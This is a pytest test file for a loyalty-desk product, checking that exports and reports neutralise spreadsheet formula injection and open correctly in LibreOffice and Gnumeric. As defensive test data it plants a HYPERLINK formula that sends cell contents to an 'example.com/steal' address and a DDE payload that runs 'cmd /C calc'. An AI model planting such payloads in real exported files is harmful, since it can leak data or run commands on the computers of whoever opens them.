"""Every workbook and CSV the product writes, as other programs see it.

- Formula-looking text (``=``, ``+``, ``-``, ``@``, tab, carriage return first) in every export
  kind, the referral report, the audit trail and import error reports is inert text: read back
  with openpyxl it is a string cell with Excel's quote prefix, and in the CSV form of every
  export kind it stands behind an apostrophe; numbers (a negative points figure) stay numbers.
- Every one of those workbooks, and every import template, converts with LibreOffice (headless)
  and with Gnumeric (``ssconvert``) to CSV with every row and value that openpyxl reads.

The data planted here (a member named ``=HYPERLINK(...)``, a staff name ``@SUM(...)``) is what
a store may hold from before the identity-name rules, or from a source they do not cover
(references, memos, reward names, reversal reasons, file names).
"""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from factories import LocalStore, add_branch, add_member, add_staff, open_store, post_debit, post_earning
from openpyxl import load_workbook

from loyalty_desk.documents.sheets import TEMPLATES, write_template
from loyalty_desk.services.adjustments.service import AdjustmentService
from loyalty_desk.services.audit import Actor, AuditService
from loyalty_desk.services.audit_viewer import AuditViewerService
from loyalty_desk.services.auth import AuthService
from loyalty_desk.services.dto import StaffSession
from loyalty_desk.services.exports import EXPORT_KINDS, ExportService
from loyalty_desk.services.handlers import operation_runner
from loyalty_desk.services.members.file_import import MemberImportService
from loyalty_desk.services.redemption.service import RedemptionService

NOW = datetime(2026, 6, 30, 12, 0)
LEADERS = ("=", "+", "-", "@", "\t", "\r", "\n")  # a workbook cell holds a carriage return as a line feed
ESCAPED = re.compile("_x([0-9A-Fa-f]{4})_")
HYPERLINK = '=HYPERLINK("http://example.com/steal?x="&A1,"Click")'
PLANTED = {
    "name": HYPERLINK,  # a member's name from before the name rules
    "name_plus": "+86 张伟",
    "name_minus": "-王芳",
    "name_at": "@李娜",
    "staff": "@SUM(1+1)*cmd|' /C calc'!A0",  # an officer's display name
    "reference": "=2+3",  # a ledger entry's reference
    "reward": "=1+1茶具",  # a reward's Chinese name
    "memo": "-2+3 apology for the long wait",  # an adjustment memo
    "reason": "+ customer changed mind",  # a reversal reason
    "reference_tab": "\t=1+1",  # references from a transaction feed
    "reference_return": "\r@SUM(1)",
}
EXPECTED_BY_KIND = {  # text that must arrive, inert, in each export kind
    "members": {PLANTED["name"], PLANTED["name_plus"], PLANTED["name_minus"], PLANTED["name_at"]},
    "ledger": {PLANTED["reference"], PLANTED["reference_tab"], PLANTED["reference_return"]},
    "expiring": {PLANTED["name"], PLANTED["name_minus"]},
    "journal": {PLANTED["staff"]},
    "redemptions": {f"{PLANTED['reward']} / Tea set", PLANTED["reason"]},
    "approvals": {PLANTED["memo"]},
}
IN_WORKBOOK = {PLANTED["reference_return"]: "\n@SUM(1)"}  # what a workbook cell holds, where it differs


@dataclass
class Shop:
    store: LocalStore
    exports: ExportService
    adjustments: AdjustmentService
    officer: StaffSession
    supervisor: StaffSession
    auditor: StaffSession
    admin: StaffSession
    members: list[str]


@pytest.fixture
def shop(tmp_path: Path) -> Iterator[Shop]:
    store = open_store(tmp_path / "store", now=NOW)
    ctx = store.context
    add_branch(ctx, code="HQ01", name_zh="总行", name_en="Head Office", head_office=True)
    add_branch(ctx, code="BJ01")
    officer = add_staff(ctx, username="officer.bj", role="officer", display_name=PLANTED["staff"])
    supervisor = add_staff(ctx, username="super.bj", role="supervisor")
    auditor = add_staff(ctx, username="auditor", role="auditor", branch_code="HQ01")
    admin = add_staff(ctx, username="admin", role="admin", branch_code="HQ01")
    members = [add_member(ctx, name=PLANTED[key]) for key in ("name", "name_plus", "name_minus", "name_at")]
    post_earning(ctx, members[0], 5_000, on=date(2024, 7, 10), reference=PLANTED["reference"])  # expires 2026-07-31
    post_earning(ctx, members[2], 2_000, on=date(2024, 6, 3))  # expires 2026-06-30
    post_earning(ctx, members[1], 3_000, on=date(2026, 6, 1), reference=PLANTED["reference_tab"])
    post_earning(ctx, members[3], 1_000, on=date(2026, 6, 2), reference=PLANTED["reference_return"])
    post_debit(ctx, members[0], 300, on=date(2026, 6, 15), kind="adjust", details={"reason_code": "CORRECTION"})
    runner = operation_runner(ctx)
    redemption = RedemptionService(ctx, runner)
    redemption.upsert_reward(session=admin, code="TEA", points_cost=400, name_zh=PLANTED["reward"], name_en="Tea set",
                             category="physical_gift", cash_value="25.00", stock_tracked=True)
    redemption.receive_stock(session=admin, reward_code="TEA", branch_code="BJ01", qty=5)
    receipt = redemption.redeem(operation_id=redemption.new_operation_id(), session=officer, member_no=members[1], reward_code="TEA", qty=1)
    redemption.reverse(operation_id=redemption.new_operation_id(), session=supervisor, redemption_number=receipt.number, reason=PLANTED["reason"])
    redemption.redeem(operation_id=redemption.new_operation_id(), session=officer, member_no=members[1], reward_code="TEA", qty=2)
    adjustments = AdjustmentService(ctx, runner, AuthService(ctx))
    adjustments.request(operation_id=adjustments.new_operation_id(), session=officer, member_no=members[0], direction="credit",
                        points=500, reason_code="GOODWILL", memo=PLANTED["memo"])
    yield Shop(store, ExportService(ctx, adjustments=adjustments), adjustments, officer, supervisor, auditor, admin, members)
    store.close()


def export(shop: Shop, kind: str, path: Path) -> Path:
    session = {"redemptions": shop.admin, "approvals": shop.supervisor, "expiring": shop.supervisor}.get(kind, shop.auditor)
    period = {"date_from": date(2024, 1, 1), "date_to": NOW.date()} if kind in ("ledger", "journal", "redemptions") else {}
    shop.exports.export(kind=kind, session=session, path=path, within_days=90, **period)
    return path


def referral_report(tmp_path: Path) -> Path:
    """The referral service's own workbook: the referrer's name is formula-looking legacy data."""
    from referral_support import open_referral_desk

    desk = open_referral_desk(tmp_path / "referral-store")
    try:
        desk.referrer = desk.new_member(name=HYPERLINK, address="北京市朝阳区建国路88号", mobile="13911113333")
        desk.register()
        desk.register()
        return desk.service.export(session=desk.officer, path=tmp_path / "referrals.xlsx")
    finally:
        desk.store.close()


def audit_workbook(shop: Shop, tmp_path: Path) -> Path:
    """The audit trail, which holds the file name of an export called ``=1+1.xlsx``."""
    export(shop, "members", tmp_path / "=1+1.xlsx")
    viewer = AuditViewerService(shop.store.context, AuditService(shop.store.context.uow))
    path = tmp_path / "audit.xlsx"
    viewer.export(session=shop.auditor, path=path)
    return path


def error_report(shop: Shop, tmp_path: Path) -> Path:
    """A member import refused for a formula-looking name: the report quotes the value."""
    source = tmp_path / "new-members.csv"
    source.write_text(
        "name,id_type,id_number,mobile,branch_code\n"
        '"=HYPERLINK(""http://example.com"",""x"")",resident_id,11010519491231002X,13800138000,BJ01\n',
        encoding="utf-8",
    )
    report = MemberImportService(shop.store.context).import_members(path=source, actor=Actor("admin", "test-desk", "HQ01"))
    assert report.error_report is not None
    return Path(report.error_report)


# ---------------------------------------------------------------------- reading back


def decoded(value: Any) -> Any:
    """Text with Excel's ``_xHHHH_`` escapes of control characters decoded (openpyxl leaves them
    in inline strings; Excel, LibreOffice and Gnumeric decode them)."""
    return ESCAPED.sub(lambda match: chr(int(match.group(1), 16)), value) if isinstance(value, str) else value


def data_cells(path: Path) -> list[Any]:
    """Every non-empty cell of every sheet, as openpyxl reads it."""
    workbook = load_workbook(path)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_inert(path: Path, expected: set[str]) -> None:
    cells = data_cells(path)
    formula_like = [cell for cell in cells if isinstance(cell.value, str) and decoded(cell.value).startswith(LEADERS)]
    for cell in formula_like:
        assert cell.data_type == "s", f"{path.name} {cell.coordinate}: {cell.value!r} is not a text cell"
        assert cell.quotePrefix, f"{path.name} {cell.coordinate}: {cell.value!r} has no quote prefix"
    assert not [cell for cell in cells if cell.data_type == "f"], f"{path.name} holds a formula"
    found = {decoded(cell.value) for cell in formula_like}
    expected = {IN_WORKBOOK.get(text, text) for text in expected}
    assert expected <= found, f"{path.name}: missing {expected - found}"


@pytest.mark.parametrize("kind", [k for k in EXPORT_KINDS if k != "referrals"])
def test_formula_text_is_inert_in_every_export_kind(shop: Shop, tmp_path: Path, kind: str) -> None:
    path = export(shop, kind, tmp_path / f"{kind}.xlsx")
    assert_inert(path, EXPECTED_BY_KIND[kind])

    as_csv = export(shop, kind, tmp_path / f"{kind}.csv")
    with open(as_csv, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    values = [value for row in rows for value in row]
    for text in EXPECTED_BY_KIND[kind]:
        assert "'" + text in values, f"{kind}.csv: {text!r} is not behind an apostrophe"
    assert not [v for v in values if v.startswith(LEADERS) and not _is_number(v)], f"{kind}.csv: formula-looking text left bare"
    workbook_rows = sum(1 for _ in load_workbook(path).worksheets[0].iter_rows())
    assert len(rows) == workbook_rows  # the same header and data rows as the workbook's data sheet


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
    except ValueError:
        return False
    return True


def test_negative_points_stay_numbers(shop: Shop, tmp_path: Path) -> None:
    path = export(shop, "ledger", tmp_path / "ledger.xlsx")
    sheet = load_workbook(path).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    points = [row[header.index("Points")] for row in sheet.iter_rows(min_row=2)]
    negative = [cell for cell in points if isinstance(cell.value, int) and cell.value < 0]
    assert sorted(cell.value for cell in negative) == [-800, -400, -300]  # two redemptions and the adjustment
    assert all(cell.data_type == "n" and not cell.quotePrefix and cell.number_format == "#,##0" for cell in points)
    as_csv = export(shop, "ledger", tmp_path / "ledger.csv")
    with open(as_csv, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(int(row["Points"]) for row in rows) == sorted(cell.value for cell in points)


def test_formula_text_is_inert_in_the_referral_report_audit_trail_and_error_report(shop: Shop, tmp_path: Path) -> None:
    from loyalty_desk.domain.identity import mask_name

    assert_inert(referral_report(tmp_path), {mask_name(HYPERLINK)})
    assert_inert(audit_workbook(shop, tmp_path), {"=1+1.xlsx"})
    assert_inert(error_report(shop, tmp_path), {'=HYPERLINK("http://example.com","x")'})


# ---------------------------------------------------------------------- other spreadsheet programs


def _tools() -> tuple[str, str]:
    soffice, ssconvert = shutil.which("soffice") or shutil.which("libreoffice"), shutil.which("ssconvert")
    if soffice and ssconvert:
        return soffice, ssconvert
    if os.environ.get("CI") == "true":
        pytest.fail("CI must have LibreOffice (soffice) and Gnumeric (ssconvert): .ci/run installs them")
    pytest.skip("LibreOffice (soffice) or Gnumeric (ssconvert) is not installed here; .ci/run installs both for CI")


def _csv_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    while rows and not any(rows[-1]):
        rows.pop()
    return rows


def _same(expected: Any, shown: str) -> bool:
    """Whether a converter's CSV text ``shown`` is the value openpyxl read."""
    if expected is None:
        return shown == ""
    if isinstance(expected, bool):
        return shown.upper() in ("TRUE", "FALSE") and (shown.upper() == "TRUE") == expected
    if isinstance(expected, (int, float)):
        try:
            return abs(float(shown.replace(",", "")) - expected) < 1e-6
        except ValueError:
            return False
    if isinstance(expected, datetime):
        for pattern in ("%Y-%m-%d %H:%M:%S", "%Y/%m/%d %H:%M:%S", "%Y/%m/%d %H:%M:%S.%f", "%Y-%m-%d %H:%M:%S.%f", "%Y-%m-%d", "%Y/%m/%d"):
            try:
                parsed = datetime.strptime(shown, pattern)
            except ValueError:
                continue
            return abs((parsed - expected).total_seconds()) < 1 or (expected.time() == datetime.min.time() and parsed.date() == expected.date())
        return False
    return shown == str(expected)


def _sheets(path: Path) -> dict[str, list[list[Any]]]:
    workbook = load_workbook(path)
    sheets = {}
    for sheet in workbook.worksheets:
        rows = [[decoded(value) for value in row] for row in sheet.iter_rows(values_only=True)]
        while rows and all(value is None for value in rows[-1]):
            rows.pop()
        sheets[sheet.title] = rows
    return sheets


def _compare(program: str, path: Path, title: str, expected: list[list[Any]], converted: Path) -> None:
    assert converted.exists(), f"{program} wrote no CSV for {path.name} / {title}"
    shown = _csv_rows(converted)
    assert len(shown) == len(expected), f"{program}: {path.name} / {title} has {len(shown)} rows, openpyxl reads {len(expected)}"
    for number, (want, got) in enumerate(zip(expected, shown, strict=True), start=1):
        got = got + [""] * (len(want) - len(got))
        for column, value in enumerate(want):
            assert _same(value, got[column]), f"{program}: {path.name} / {title} row {number} column {column + 1}: {got[column]!r}, not {value!r}"


def test_every_workbook_opens_in_libreoffice_and_gnumeric(shop: Shop, tmp_path: Path) -> None:
    soffice, ssconvert = _tools()
    folder = tmp_path / "workbooks"
    folder.mkdir()
    workbooks = [export(shop, kind, folder / f"export-{kind}.xlsx") for kind in EXPORT_KINDS if kind != "referrals"]
    workbooks.append(Path(shutil.copy(referral_report(tmp_path), folder / "referral-report.xlsx")))
    workbooks.append(Path(shutil.copy(audit_workbook(shop, tmp_path), folder / "audit-trail.xlsx")))
    workbooks.append(Path(shutil.copy(error_report(shop, tmp_path), folder / "import-errors.xlsx")))
    workbooks += [write_template(kind, folder / f"template-{kind}.xlsx") for kind in TEMPLATES]

    libreoffice_out, gnumeric_out = tmp_path / "libreoffice", tmp_path / "gnumeric"
    libreoffice_out.mkdir()
    gnumeric_out.mkdir()
    # every sheet to its own CSV (-1), UTF-8 (76), values rather than as shown; a profile of its own
    subprocess.run(
        [soffice, f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}", "--headless", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", "--outdir", str(libreoffice_out),
         *map(str, workbooks)],
        check=True, capture_output=True, timeout=300,
    )
    for path in workbooks:
        subprocess.run([ssconvert, "-S", str(path), str(gnumeric_out / f"{path.stem}-%s.csv")], check=True, capture_output=True, timeout=120)

    for path in workbooks:
        sheets = _sheets(path)
        assert sum(len(rows) for rows in sheets.values()) > 1, f"{path.name} is empty"
        for title, rows in sheets.items():
            _compare("LibreOffice", path, title, rows, libreoffice_out / f"{path.stem}-{title}.csv")
            _compare("Gnumeric", path, title, rows, gnumeric_out / f"{path.stem}-{title}.csv")


def test_a_cancelled_workbook_leaves_no_file(tmp_path: Path) -> None:
    from loyalty_desk.documents.workbooks import Column, Sheet, write_workbook

    class Cancelled(Exception):
        pass

    def cancel_at(count: int) -> None:
        if count >= 2_000:
            raise Cancelled

    rows = ((n, f"row {n}") for n in range(10_000))
    with pytest.raises(Cancelled):
        write_workbook(tmp_path / "big.xlsx", [Sheet("Rows", [Column("n"), Column("text")], rows, on_row=cancel_at)])
    assert list(tmp_path.iterdir()) == []


def test_every_column_format_takes_every_kind_of_value(tmp_path: Path) -> None:
    """Each column's writer expects the type its format names (a number, a date, text) and
    must still write any other value a row may hold the way a spreadsheet user expects."""
    from datetime import UTC
    from decimal import Decimal

    from loyalty_desk.documents.workbooks import DATE, DATETIME, MAX_CELL_TEXT, MONEY, NUMBER, TEXT, Column, Sheet, Styled, write_workbook

    columns = [Column("number", number_format=NUMBER), Column("money", number_format=MONEY), Column("date", number_format=DATE),
               Column("datetime", number_format=DATETIME), Column("text", number_format=TEXT), Column("general")]
    moment = datetime(2026, 1, 2, 3, 4, 5)
    rows = [
        (-5, 12.5, date(2026, 1, 2), moment, "plain", "plain"),
        ("=1+1", Decimal("2.50"), moment, date(2026, 1, 2), 42, 1.5),
        (Decimal("7"), None, "2026-01-02", moment.replace(tzinfo=UTC), "-5", True),
        (date(2026, 1, 2), "", None, "\tlater", Decimal("3.10"), "a\rb\x01c"),
        (Styled(9, bold=True), 0, None, None, "x" * (MAX_CELL_TEXT + 10), "@me"),
    ]
    write_workbook(tmp_path / "kinds.xlsx", [Sheet("Kinds", columns, rows)])
    sheet = load_workbook(tmp_path / "kinds.xlsx")["Kinds"]
    cells = [[sheet.cell(row, col) for col in range(1, 7)] for row in range(2, 7)]
    values = [[cell.value for cell in row] for row in cells]

    assert values[0] == [-5, 12.5, datetime(2026, 1, 2), moment, "plain", "plain"]
    assert [cells[0][i].number_format for i in range(4)] == [NUMBER, MONEY, DATE, DATETIME]
    assert not any(cell.quotePrefix for cell in cells[0])
    assert values[1] == ["=1+1", 2.5, moment, datetime(2026, 1, 2), "42", 1.5]
    assert cells[1][0].data_type == "s" and cells[1][0].quotePrefix
    assert cells[1][4].data_type == "s" and not cells[1][4].quotePrefix
    assert values[2] == [7, None, "2026-01-02", moment, "-5", True]
    assert cells[2][4].quotePrefix and cells[2][5].data_type == "b"
    assert values[3] == [datetime(2026, 1, 2), None, None, "\tlater", "3.10", "a\nb\ufffdc"]
    assert cells[3][3].quotePrefix and cells[3][4].data_type == "s"
    assert values[4][:2] == [9, 0] and cells[4][0].font.bold
    assert values[4][4] == "x" * MAX_CELL_TEXT and values[4][5] == "@me" and cells[4][5].quotePrefix
